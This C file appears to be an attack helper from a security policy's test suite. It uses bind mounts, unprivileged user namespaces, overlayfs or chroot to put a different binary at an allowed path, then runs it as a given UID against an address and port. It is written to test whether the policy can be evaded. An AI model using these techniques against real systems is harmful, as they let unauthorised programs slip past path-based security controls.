/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bind_over root|userns|overlay|chroot UID SOURCE TARGET ADDRESS PORT
 *
 * In a mount namespace of its own, shows another file under TARGET (a path that the
 * policy allows) and becomes `TARGET ADDRESS PORT` as UID.
 * root: SOURCE is bound over TARGET. userns: so too, as any user can, by way of a
 * user namespace in which it maps itself. overlay: an overlay over TARGET's folder
 * shows SOURCE's folder before it. chroot: SOURCE is the folder that becomes /.
 */
#include <fcntl.h>
#include <libgen.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>

#include "tests/support/attacks/attack.h"

static void write_file(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) attack_fail(path);
  close(fd);
}

static void own_namespaces(uid_t uid, int userns) {
  if (userns) {
    char map[64];
    if (uid != getuid()) attack_become(uid, uid);
    prctl(PR_SET_DUMPABLE, 1); /* else /proc/self/uid_map is root's */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) attack_fail("unshare");
    snprintf(map, sizeof(map), "%u %u 1", uid, uid);
    write_file("/proc/self/uid_map", map);
  } else if (unshare(CLONE_NEWNS) != 0) {
    attack_fail("unshare");
  }
  if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) attack_fail("mount");
}

static void overlay(const char* source, const char* target) {
  char options[8192];
  const char* above = dirname(strdup(source));
  const char* below = dirname(strdup(target));
  snprintf(options, sizeof(options), "lowerdir=%s:%s", above, below);
  if (mount("overlay", below, "overlay", 0, options) == 0) return;
  if (errno == ENODEV) attack_missing("overlayfs");
  attack_fail("overlay");
}

int main(int argc, char** argv) {
  if (argc != 7) {
    fputs("usage: bind_over root|userns|overlay|chroot UID SOURCE TARGET ADDRESS PORT\n", stderr);
    return 2;
  }
  const char* how = argv[1];
  uid_t uid = (uid_t)atoi(argv[2]);
  alarm(60);
  own_namespaces(uid, strcmp(how, "userns") == 0);
  if (strcmp(how, "overlay") == 0) {
    overlay(argv[3], argv[4]);
  } else if (strcmp(how, "chroot") == 0) {
    if (chroot(argv[3]) != 0 || chdir("/") != 0) attack_fail(argv[3]);
  } else if (mount(argv[3], argv[4], NULL, MS_BIND, NULL) != 0) {
    attack_fail(argv[4]);
  }
  if (uid != getuid()) attack_become(uid, uid);
  execl(argv[4], argv[4], argv[5], argv[6], (char*)NULL);
  attack_fail(argv[4]);
}
